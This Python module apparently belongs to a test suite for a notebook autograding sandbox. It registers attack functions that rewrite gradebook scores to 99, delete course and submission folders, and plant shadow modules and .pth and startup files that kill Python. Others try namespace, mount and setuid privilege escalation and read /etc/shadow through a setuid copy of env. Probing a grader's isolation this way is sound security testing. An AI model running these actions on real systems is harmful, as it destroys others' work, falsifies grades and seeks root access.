"""Attacks that change what is not theirs: marks, other submissions, the course, later notebooks."""

from attacks.corpus import FIRST_ANSWERS, attack
from gradings import ALL


@attack("graded")
def raises_marks_in_the_gradebook():
    """Opens every database it can find, and writes 99 points into it."""
    import os
    import sqlite3

    for folder, _, names in os.walk("/"):
        for name in names:
            if name == "gradebook.db":
                with sqlite3.connect(os.path.join(folder, name)) as database:
                    database.execute("UPDATE grade SET auto_score = 99, manual_score = 99")


@attack("graded", ALL)
def deletes_the_course():
    """Deletes the submissions, the hand-out and the marks, wherever they lie."""
    import os
    import shutil

    for folder, folders, _ in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("proc", "usr")]
        for name in folders:
            if name in ("submitted", "release", "source", "solutions", "autograded", "feedback"):
                path = os.path.join(folder, name)
                if os.path.isdir(f"{path}/lab02") or name == "solutions":
                    print("FOUND", path)
                    shutil.rmtree(path, ignore_errors=True)


@attack("graded", ALL)
def finds_folders_to_write():
    """Looks for a folder that it may write, beside its own and those for temporary files."""
    import os

    for folder, _, _ in os.walk("/"):
        if os.access(folder, os.W_OK) and not folder.startswith(("/proc", "/tmp", "/lab", "/dev")):
            print("FOUND", folder)


@attack("graded", ALL)
def overwrites_the_self_checks():
    """Writes a lab.py that ends everything, for itself and for the notebooks after it."""
    import os

    os.makedirs("labkit", exist_ok=True)
    for name in ("lab.py", "labkit/steps.py"):
        if os.path.exists(name) and open(name).read() == "raise SystemExit":
            print("FOUND", name, "as a notebook before has left it")
        open(name, "w").write("raise SystemExit")


@attack("graded", ALL, cells=FIRST_ANSWERS[:1])
def leaves_modules_for_later_notebooks():
    """Writes modules that would be imported in place of others by the notebooks after it."""
    for name in ("numpy.py", "json.py", "IPython.py", "sitecustomize.py", "matplotlib.py"):
        open(name, "w").write("raise SystemExit")
        open(f"/tmp/{name}", "w").write("raise SystemExit")


@attack("graded", ALL)
def poisons_every_start_of_python():
    """Leaves code where Python, IPython and matplotlib look for it when they start."""
    import os
    import site
    import sys

    places = [*site.getsitepackages(), sys.prefix, sys.base_prefix]
    for folder in places:
        try:
            open(os.path.join(folder, "evil.pth"), "w").write("import os; os._exit(1)")
            print("FOUND a way to write into", folder)
        except OSError:
            pass
    for folder in ("/tmp/.ipython/profile_default/startup", "/tmp/.config/matplotlib"):
        os.makedirs(folder, exist_ok=True)
        open(f"{folder}/evil.py", "w").write("import os; os._exit(1)")


@attack("graded", ALL)
def gains_rights():
    """Tries to become root, by its own uid, in a new user namespace, or by a mount."""
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    for name, flags in {"user": 0x10000000, "mount": 0x20000, "network": 0x40000000}.items():
        if libc.unshare(flags) == 0:
            print("FOUND a way into a namespace of", name)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        print("FOUND a way to mount")
    for become in (os.setuid, os.setgid):
        try:
            become(0)
            print("FOUND a way to become root")
        except OSError:
            pass


@attack("graded")
def makes_a_program_run_as_root():
    """Leaves a program with the set-user-id bit in every folder that it may write."""
    import os
    import shutil

    for folder in ("/tmp", "/lab", "/dev/shm"):
        shutil.copy("/usr/bin/env", f"{folder}/rise")
        os.chmod(f"{folder}/rise", 0o6755)
        if os.system(f"{folder}/rise cat /etc/shadow 2> /dev/null") == 0:
            print("FOUND a way to read as root")
